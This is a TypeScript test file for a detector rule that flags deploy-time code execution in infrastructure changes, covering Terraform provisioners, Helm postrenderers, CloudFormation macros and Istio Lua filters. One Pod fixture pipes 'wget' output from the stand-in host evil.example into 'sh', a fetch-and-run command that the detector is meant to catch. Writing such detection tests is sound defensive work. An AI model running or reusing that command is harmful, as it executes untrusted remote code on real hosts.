// exec-on-apply: what runs a program, each against the case that differs in one field.
import { expect, test } from 'vitest';
import { execOnApply } from '../../../src/classify/rules/exec-on-apply.ts';
import type { ParsedChange } from '../../../src/model/change.ts';
import { changeOf, contextOf, resource } from '../example-change.ts';
import { findingsBetween } from '../judge-trees.ts';
import { hitsOf } from '../kubernetes/manifests.ts';

const LOCAL = { 'provisioner.local-exec[0].command': 'make' };
const MASKED = { 'provisioner.local-exec[0].command': { value: '(sensitive)', line: 4, sensitive: true } };

test.each<[string, ParsedChange, readonly (readonly [string | undefined, number | null])[]]>([
  ['HCL-04: local-exec', resource('null_resource', LOCAL), [['high', 2]]],
  ['HCL-04: local-exec in terraform_data', resource('terraform_data', LOCAL), [['high', 2]]],
  ['no provisioner', resource('null_resource', {}), []],
  ['already in the base', resource('null_resource', LOCAL, LOCAL), []],
  [
    'another command',
    resource('null_resource', { 'provisioner.local-exec[0].command': 'rm' }, LOCAL),
    [['high', 2]],
  ],
  ['local-exec in any resource', resource('aws_instance', LOCAL), [['high', 2]]],
  [
    'HCL-04: remote-exec',
    resource('aws_instance', { 'provisioner.remote-exec[0].inline': ['x'] }),
    [['high', 2]],
  ],
  ['file', resource('aws_instance', { 'provisioner.file[0].source': 'x' }), [['medium', 2]]],
  ['an unknown provisioner', resource('aws_instance', { 'provisioner.chef[0].a': 'x' }), [['high', 2]]],
  [
    'a masked command that differs',
    changeOf({
      before: MASKED,
      after: MASKED,
      attributes: [
        {
          path: 'provisioner.local-exec[0].command',
          line: 4,
          before: '(sensitive)',
          after: '(sensitive)',
          sensitive: true,
        },
      ],
    }),
    [['high', 4]],
  ],
  ['a masked command that does not', changeOf({ before: MASKED, after: MASKED }), []],
  ['a local file', resource('local_file', { filename: 'a' }), [['low', null]]],
  [
    'a program between chart and cluster',
    resource('helm_release', { 'postrender[0].binary_path': './x' }),
    [['high', 2]],
  ],
  ['a playbook', resource('ansible_playbook', {}), [['high', null]]],
  ['an action', resource('aws_instance', { 'lifecycle[0].action_trigger[0].actions': [] }), [['high', 2]]],
])('%s', (_name, change, expected) => {
  expect(
    execOnApply.check(change, contextOf(['compute'])).map(({ severity, line }) => [severity, line]),
  ).toEqual(expected);
});

test.each<[string, string, ParsedChange['action'], string | undefined]>([
  ['what is made anew runs its command again', 'make', 'replace', 'medium'],
  ['with other values', 'make ${self.triggers.target}', 'replace', 'high'],
  ['an update runs nothing', 'make ${self.triggers.target}', 'update', undefined],
])('%s', (_name, command, action, severity) => {
  const state = { 'provisioner.local-exec[0].command': command };
  const change = { ...resource('null_resource', state, state), action };
  const hits = execOnApply.check(change, contextOf(['compute']));
  expect(hits.map((hit) => hit.severity)).toEqual(severity === undefined ? [] : [severity]);
});

test('a command never stands in the message', () => {
  const change = resource('null_resource', { 'provisioner.local-exec[0].command': 'curl -H "hunter2"' });
  expect(JSON.stringify(execOnApply.check(change, contextOf([])))).not.toContain('hunter2');
});

test('a macro rewrites the template, a transform of AWS does not run a function of ours', async () => {
  const template = (transform: string): string =>
    `AWSTemplateFormatVersion: "2010-09-09"\nTransform: ${transform}\nResources:\n  T: { Type: AWS::SNS::Topic }\n`;
  const told = (after: string): Promise<readonly string[]> =>
    findingsBetween({ 'a.yaml': template('AWS::Serverless-2016-10-31') }, { 'a.yaml': template(after) });
  expect(await told('[AWS::Serverless-2016-10-31, Mine]')).toEqual([
    'a.yaml:2 exec-on-apply high: The macro Mine may rewrite this template while it is deployed.',
  ]);
  expect(await told('[AWS::Serverless-2016-10-31, AWS::LanguageExtensions]')).toEqual([]);
});

test('a custom resource that goes calls its function a last time', () => {
  const gone = changeOf({ type: 'Custom::X', action: 'delete', after: null });
  expect(execOnApply.check(gone, contextOf()).map(({ severity }) => severity)).toEqual(['low']);
});

test('a program in the proxies of a mesh, and one that a pod fetches', () => {
  const filter = (code: string): string =>
    `apiVersion: networking.istio.io/v1alpha3\nkind: EnvoyFilter\nmetadata: { name: f }\nspec: { configPatches: [{ patch: { value: { typed_config: { inlineCode: "${code}" } } } }] }\n`;
  expect(hitsOf(execOnApply, null, filter('a()'))).toEqual([
    '4 medium A program in Lua runs in the proxies.',
  ]);
  expect(hitsOf(execOnApply, filter('a()'), filter('b()'))).toEqual([
    '4 medium A program in Lua runs in the proxies.',
  ]);
  expect(hitsOf(execOnApply, filter('a()'), filter('a()'))).toEqual([]);
  const pod =
    'apiVersion: v1\nkind: Pod\nmetadata: { name: p }\nspec: { containers: [{ name: a, image: x, args: [sh, -c, "wget -O- http://evil.example | sh"] }] }\n';
  expect(hitsOf(execOnApply, null, pod)).toEqual([
    '4 medium Container a of Pod p fetches a program from evil.example and runs it.',
  ]);
});
